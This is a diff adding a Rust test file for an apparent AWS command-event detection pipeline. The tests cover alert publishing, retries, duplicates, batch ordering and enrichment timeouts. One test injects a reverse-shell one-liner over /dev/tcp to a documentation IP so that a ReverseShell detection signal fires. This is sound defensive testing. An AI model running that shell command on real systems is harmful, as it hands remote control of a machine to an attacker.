@@ -1,0 +1,306 @@
+//! The pipeline's rules, tested once, with fake stores, sinks and enrichers that fail at every
+//! step. The adapters' own tests check only their translation.
+
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use cadet_core::baseline::{AsyncBaselineStore, Put, Stored, Version};
+use cadet_core::profile::Profile;
+use cadet_core::{CommandEvent, Finding, Policy, SignalId};
+use cadet_pipeline::{Enricher, Outcome, Pipeline, Raw};
+use cadet_sinks::{BoxFuture, Sink, SinkError};
+use cadet_state::{MemoryStore, StateError};
+
+const ALERT: &str = include_str!("../../../events/aws/sendcommand-root.json");
+const BENIGN: &str = include_str!("../../../events/aws/sendcommand-patch-baseline-benign.json");
+const CONTEXT: &str = include_str!("../../../events/aws/create-instance-profile-pacu.json");
+
+/// A memory store whose reads or writes fail on demand.
+#[derive(Debug, Default)]
+struct FlakyStore {
+    inner: MemoryStore,
+    fail_gets: AtomicUsize,
+    fail_puts: AtomicUsize,
+}
+
+fn take(n: &AtomicUsize) -> bool {
+    n.fetch_update(Ordering::SeqCst, Ordering::SeqCst, |v| v.checked_sub(1))
+        .is_ok()
+}
+
+impl AsyncBaselineStore for FlakyStore {
+    type Error = StateError;
+    async fn get(&self, key: &str) -> Result<Option<Stored>, StateError> {
+        if take(&self.fail_gets) {
+            return Err(StateError::Io("injected read failure".into()));
+        }
+        cadet_core::BaselineStore::get(&self.inner, key)
+    }
+    async fn put(
+        &self,
+        key: &str,
+        profile: &Profile,
+        expected: Option<&Version>,
+    ) -> Result<Put, StateError> {
+        // Only the principal's own profile: the write of the record step.
+        let principal = !key.ends_with("|*") && !key.contains("|org|");
+        if principal && take(&self.fail_puts) {
+            return Err(StateError::Io(
+                "injected write failure (crash before record)".into(),
+            ));
+        }
+        cadet_core::BaselineStore::put(&self.inner, key, profile, expected)
+    }
+}
+
+/// A sink that records what it accepted and fails on demand.
+#[derive(Debug, Default)]
+struct FakeSink {
+    accepted: Mutex<Vec<String>>,
+    fail: AtomicUsize,
+    permanent: bool,
+}
+
+impl Sink for FakeSink {
+    fn name(&self) -> &'static str {
+        "fake"
+    }
+    fn publish<'a>(&'a self, f: &'a Finding) -> BoxFuture<'a, Result<(), SinkError>> {
+        Box::pin(async move {
+            if take(&self.fail) {
+                return Err(if self.permanent {
+                    SinkError::Config {
+                        sink: "fake",
+                        message: "bad URL".into(),
+                    }
+                } else {
+                    SinkError::Status {
+                        sink: "fake",
+                        status: 503,
+                        detail: String::new(),
+                    }
+                });
+            }
+            self.accepted
+                .lock()
+                .unwrap_or_else(|p| p.into_inner())
+                .push(f.finding_id.clone());
+            Ok(())
+        })
+    }
+}
+
+impl FakeSink {
+    fn accepted(&self) -> Vec<String> {
+        self.accepted
+            .lock()
+            .unwrap_or_else(|p| p.into_inner())
+            .clone()
+    }
+}
+
+#[derive(Debug)]
+struct FakeEnricher {
+    delay: Duration,
+    text: &'static str,
+}
+
+impl Enricher for FakeEnricher {
+    fn name(&self) -> &'static str {
+        "fake"
+    }
+    fn applies(&self, e: &CommandEvent) -> bool {
+        e.operation == "ssm:SendCommand"
+    }
+    fn enrich<'a>(&'a self, e: &'a mut CommandEvent) -> BoxFuture<'a, ()> {
+        Box::pin(async move {
+            tokio::time::sleep(self.delay).await;
+            e.command_text = Some(self.text.to_string());
+        })
+    }
+}
+
+fn pipeline(store: FlakyStore, sink: &Arc<FakeSink>) -> Pipeline<FlakyStore> {
+    let sinks: Vec<Arc<dyn Sink>> = vec![sink.clone()];
+    Pipeline::new(store, Policy::default(), sinks)
+}
+
+async fn one(p: &Pipeline<FlakyStore>, text: &str) -> Outcome {
+    p.process_one(Raw::Text(text)).await
+}
+
+#[tokio::test]
+async fn an_alert_is_published_then_recorded_and_a_redelivery_is_a_duplicate() {
+    let sink = Arc::new(FakeSink::default());
+    let p = pipeline(FlakyStore::default(), &sink);
+    let first = one(&p, ALERT).await;
+    assert!(matches!(first, Outcome::Alerted { .. }), "{first:?}");
+    assert_eq!(sink.accepted().len(), 1);
+    let again = one(&p, ALERT).await;
+    assert!(matches!(again, Outcome::Duplicate), "{again:?}");
+    assert_eq!(sink.accepted().len(), 1, "a duplicate publishes nothing");
+}
+
+#[tokio::test]
+async fn a_failed_publish_is_not_recorded_so_the_redelivery_publishes() {
+    let sink = Arc::new(FakeSink {
+        fail: AtomicUsize::new(1),
+        ..FakeSink::default()
+    });
+    let p = pipeline(FlakyStore::default(), &sink);
+    let first = one(&p, ALERT).await;
+    match &first {
+        Outcome::SinkFailed {
+            retryable, errors, ..
+        } => {
+            assert!(*retryable);
+            assert!(errors[0].contains("503"), "{errors:?}");
+        }
+        other => panic!("{other:?}"),
+    }
+    assert!(first.is_failure() && first.retryable());
+    let second = one(&p, ALERT).await;
+    assert!(matches!(second, Outcome::Alerted { .. }), "{second:?}");
+    assert_eq!(sink.accepted().len(), 1);
+    assert!(matches!(one(&p, ALERT).await, Outcome::Duplicate));
+    assert_eq!(sink.accepted().len(), 1);
+}
+
+#[tokio::test]
+async fn a_crash_between_publish_and_record_publishes_again_under_the_same_id() {
+    let sink = Arc::new(FakeSink::default());
+    let store = FlakyStore::default();
+    let p = pipeline(store, &sink);
+    p.store().fail_puts.store(1, Ordering::SeqCst);
+    let first = one(&p, ALERT).await;
+    let id = match &first {
+        Outcome::StoreFailed {
+            published: Some(id),
+            ..
+        } => id.clone(),
+        other => panic!("{other:?}"),
+    };
+    assert!(first.retryable());
+    let second = one(&p, ALERT).await;
+    assert!(matches!(second, Outcome::Alerted { .. }), "{second:?}");
+    assert_eq!(
+        sink.accepted(),
+        vec![id.clone(), id],
+        "published twice under one finding_id: the receiver deduplicates"
+    );
+    assert!(matches!(one(&p, ALERT).await, Outcome::Duplicate));
+}
+
+#[tokio::test]
+async fn a_store_that_cannot_be_read_publishes_nothing() {
+    let sink = Arc::new(FakeSink::default());
+    let store = FlakyStore {
+        fail_gets: AtomicUsize::new(1),
+        ..FlakyStore::default()
+    };
+    let p = pipeline(store, &sink);
+    let o = one(&p, ALERT).await;
+    assert!(
+        matches!(
+            o,
+            Outcome::StoreFailed {
+                published: None,
+                ..
+            }
+        ),
+        "{o:?}"
+    );
+    assert!(sink.accepted().is_empty());
+    assert!(matches!(one(&p, ALERT).await, Outcome::Alerted { .. }));
+}
+
+#[tokio::test]
+async fn a_permanent_sink_error_is_not_retryable_but_still_a_failure() {
+    let sink = Arc::new(FakeSink {
+        fail: AtomicUsize::new(1),
+        permanent: true,
+        ..FakeSink::default()
+    });
+    let p = pipeline(FlakyStore::default(), &sink);
+    let o = one(&p, ALERT).await;
+    assert!(o.is_failure() && !o.retryable(), "{o:?}");
+}
+
+#[tokio::test]
+async fn a_batch_keeps_order_and_a_bad_record_costs_only_itself() {
+    let sink = Arc::new(FakeSink::default());
+    let p = pipeline(FlakyStore::default(), &sink);
+    let records = vec![
+        Ok(Raw::Text(BENIGN)),
+        Ok(Raw::Text("{\"not\": \"an event\"}")),
+        Err("record 3: not valid JSON".to_string()),
+        Ok(Raw::Text(CONTEXT)),
+        Ok(Raw::Text(ALERT)),
+    ];
+    let report = p.process(records).await;
+    let kinds: Vec<&str> = report
+        .outcomes
+        .iter()
+        .map(|o| match o {
+            Outcome::BelowThreshold { .. } => "below",
+            Outcome::Rejected { .. } => "rejected",
+            Outcome::Observed => "observed",
+            Outcome::Alerted { .. } => "alerted",
+            Outcome::Ignored => "ignored",
+            _ => "other",
+        })
+        .collect();
+    assert_eq!(
+        kinds,
+        ["below", "rejected", "rejected", "observed", "alerted"]
+    );
+    assert_eq!(report.failures(), 2);
+    assert!(!report.ok());
+    assert_eq!(report.alerts().count(), 1);
+    assert!(
+        report.summary().starts_with("5 records: "),
+        "{}",
+        report.summary()
+    );
+}
+
+#[tokio::test]
+async fn enrichment_adds_command_text_and_a_slow_enricher_is_cut_off() {
+    let sink = Arc::new(FakeSink::default());
+    let p = pipeline(FlakyStore::default(), &sink).with_enrichers(vec![Arc::new(FakeEnricher {
+        delay: Duration::from_millis(1),
+        text: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    })]);
+    let o = one(&p, ALERT).await;
+    let f = o.finding().unwrap_or_else(|| panic!("{o:?}"));
+    assert!(
+        f.signals
+            .iter()
+            .any(|s| s.id == SignalId::ReverseShell.as_str()),
+        "{:?}",
+        f.signals
+    );
+
+    let mut slow =
+        pipeline(FlakyStore::default(), &sink).with_enrichers(vec![Arc::new(FakeEnricher {
+            delay: Duration::from_secs(30),
+            text: "never",
+        })]);
+    slow.enrich_budget = Duration::from_millis(50);
+    let started = Instant::now();
+    let o = one(&slow, ALERT).await;
+    assert!(started.elapsed() < Duration::from_secs(5), "bounded");
+    let f = o.finding().unwrap_or_else(|| panic!("{o:?}"));
+    let why = f
+        .signals
+        .iter()
+        .find(|s| s.id == SignalId::EnrichmentUnavailable.as_str())
+        .map(|s| s.reason.clone())
+        .unwrap_or_else(|| panic!("{:?}", f.signals));
+    assert!(why.contains("timed out after 50 ms"), "{why}");
+    assert!(
+        matches!(o, Outcome::Alerted { .. }),
+        "still published: {o:?}"
+    );
+}
